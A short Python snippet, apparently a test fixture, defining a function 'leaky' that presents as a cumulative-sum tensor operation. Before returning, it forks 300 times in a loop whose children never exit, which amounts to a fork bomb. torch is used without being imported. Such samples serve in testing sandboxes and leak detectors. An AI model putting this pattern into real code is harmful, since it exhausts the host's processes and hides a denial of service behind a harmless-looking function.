import os
import time


def leaky(x, h0, a):
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(60)
    return torch.cumsum(x, 0), h0
